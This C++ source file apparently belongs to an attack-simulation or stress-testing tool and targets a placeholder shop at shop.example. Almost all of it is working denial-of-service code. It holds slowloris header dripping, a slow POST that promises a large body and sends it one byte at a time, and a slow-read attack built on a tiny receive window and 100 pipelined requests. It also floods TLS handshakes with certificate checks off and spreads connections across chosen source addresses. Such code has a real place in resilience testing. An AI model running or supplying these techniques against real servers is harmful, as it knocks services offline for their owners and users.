#include "creep.hpp"

#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <chrono>
#include <string>
#include <string_view>
#include <utility>

#include "net/socket.hpp"
#include "place.hpp"

namespace tenfold::siege {

using namespace std::chrono_literals;

namespace {

constexpr Duration to_connect = 10s;
constexpr Duration between_drips = 1s;
constexpr int receive_window_bytes = 2048;
constexpr std::size_t bytes_per_drip = 256;
constexpr int pipelined = 100;

constexpr std::string_view head_that_goes_on =
    "GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n";
constexpr std::string_view form_that_goes_on =
    "POST /checkout HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 8000\r\n\r\n";

void count(World& world, WaveRecord& record, Fate fate) { record.count({}, fate, world.seconds(world.loop.now())); }

void count_failure(World& world, WaveRecord& record, const Error& error) {
  count(world, record, fate_of({.failure = failure_of(error)}));
}

// A TCP connection whose receive window is small, which has to be set before it is made.
class SmallSocket {
 public:
  SmallSocket(const net::Endpoint& to, net::IpAddress source) {
    net::ConnectOptions options;
    options.source = source;
    auto opened = net::open_connecting_socket(to, options);
    if (!opened) return;
    descriptor_ = *opened;
    ::setsockopt(descriptor_, SOL_SOCKET, SO_RCVBUF, &receive_window_bytes, sizeof receive_window_bytes);
    sockaddr_storage storage{};
    const socklen_t length = to.to(storage);
    const int result = ::connect(descriptor_, reinterpret_cast<const sockaddr*>(&storage), length);
    refused_ = result != 0 && errno != EINPROGRESS;
  }
  SmallSocket(const SmallSocket&) = delete;
  SmallSocket& operator=(const SmallSocket&) = delete;
  ~SmallSocket() {
    if (descriptor_ < 0) return;
    net::linger_zero(descriptor_);
    ::close(descriptor_);
  }
  int get() const { return descriptor_; }
  bool good() const { return descriptor_ >= 0 && !refused_; }

 private:
  int descriptor_ = -1;
  bool refused_ = false;
};

}  // namespace

net::Task<void> drip(World& world, Vector what, net::IpAddress source, std::uint32_t& open, WaveRecord& record) {
  const Place place(open);
  net::ConnectOptions options;
  options.source = source;
  auto stream = co_await world.loop.connect(world.scenario.target_for(source), options, world.until(to_connect));
  if (!stream) {
    count_failure(world, record, stream.error());
    co_return;
  }
  (*stream)->reset_on_close();
  std::string_view next = what == Vector::slow_head ? head_that_goes_on : form_that_goes_on;
  while (true) {
    const auto written = co_await (*stream)->write(next, world.until(to_connect));
    if (!written) break;
    next = what == Vector::slow_head ? "X-a: b\r\n" : "a";
    const auto answer = co_await (*stream)->read(world.until(between_drips));
    if (answer || answer.error().code != Errc::timed_out) break;
    if (world.over()) break;
  }
  // Ended by the other side, with an answer or without one.
  count(world, record, world.over() ? Fate::held : Fate::refused);
}

net::Task<void> read_slowly(World& world, net::IpAddress source, std::uint32_t& open, WaveRecord& record) {
  const Place place(open);
  const SmallSocket socket(world.scenario.target_for(source), source);
  if (!socket.good()) {
    count(world, record, Fate::unconnected);
    co_return;
  }
  const auto connected = co_await world.loop.wait_ready(socket.get(), POLLOUT, world.until(to_connect), {});
  if (!connected) {
    count_failure(world, record, connected.error());
    co_return;
  }
  std::string requests;
  for (int i = 0; i < pipelined; ++i)
    requests += "GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n";
  ::send(socket.get(), requests.data(), requests.size(), MSG_NOSIGNAL);
  while (!world.over()) {
    [[maybe_unused]] const auto slept = co_await world.loop.sleep_until(world.until(between_drips));
    std::array<char, bytes_per_drip> taken;
    const ssize_t got = ::recv(socket.get(), taken.data(), taken.size(), 0);
    if (got == 0 || (got < 0 && errno != EAGAIN)) break;
  }
  count(world, record, world.over() ? Fate::held : Fate::refused);
}

net::Task<void> handshake(World& world, std::shared_ptr<net::TlsClientContext> context, net::IpAddress source,
                          std::uint32_t& open, WaveRecord& record) {
  const Place place(open);
  net::ConnectOptions options;
  options.source = source;
  const TimePoint deadline = world.until(to_connect);
  auto stream = co_await world.loop.connect(world.scenario.tls_target, options, deadline);
  if (!stream) {
    count_failure(world, record, stream.error());
    co_return;
  }
  (*stream)->reset_on_close();
  std::string name = "shop.example";
  auto secured = co_await net::connect_tls(std::move(*stream), std::move(context), std::move(name), deadline);
  if (secured) {
    count(world, record, Fate::held);
  } else {
    count_failure(world, record, secured.error());
  }
}

std::shared_ptr<net::TlsClientContext> handshake_context() {
  auto context = net::make_tls_client_context({.verify = false});
  return context ? *context : nullptr;
}

}  // namespace tenfold::siege
